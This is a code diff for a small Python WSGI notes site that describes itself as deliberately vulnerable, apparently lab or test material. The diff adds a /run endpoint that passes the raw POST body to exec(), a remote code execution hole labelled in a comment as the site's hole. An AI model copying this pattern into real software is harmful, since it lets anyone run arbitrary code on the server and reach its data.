@@ -1,6 +1,7 @@
 """A site with holes: it shows what people wrote as it is, scripts and all."""
 
 import datetime
+import json
 import secrets
 import sqlite3
 from collections.abc import Callable, Iterable
@@ -32,7 +33,9 @@ def sign_in(role: str) -> dict[str, str]:
 
 
 def application(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[bytes]:
-    """Notes, who one is, and the time."""
+    """Notes, who one is, and the time; what is posted to /run is run, as on a site that was taken over."""
+    if environ["PATH_INFO"] == "/run":
+        return _run(environ["wsgi.input"].read(int(environ["CONTENT_LENGTH"])).decode(), start)
     token = SimpleCookie(environ.get("HTTP_COOKIE", "")).get("token")
     with sqlite3.connect(tenancy.database()) as database:
         if environ["REQUEST_METHOD"] == "POST":
@@ -48,3 +51,13 @@ def application(environ: dict[str, Any], start: Callable[..., Any]) -> Iterable[
     kind = "text/javascript" if environ["PATH_INFO"] == "/worker.js" else "text/html; charset=utf-8"
     start("200 OK", [("Content-Type", kind)])
     return [WORKER if environ["PATH_INFO"] == "/worker.js" else page.encode()]
+
+
+def _run(program: str, start: Callable[..., Any]) -> Iterable[bytes]:
+    said: dict[str, Any] = {"folder": tenancy.folder()}
+    try:
+        exec(program, said)  # the hole of this site
+    except Exception as problem:
+        said["result"] = f"{type(problem).__name__}: {problem}"
+    start("200 OK", [("Content-Type", "application/json")])
+    return [json.dumps(said.get("result")).encode()]
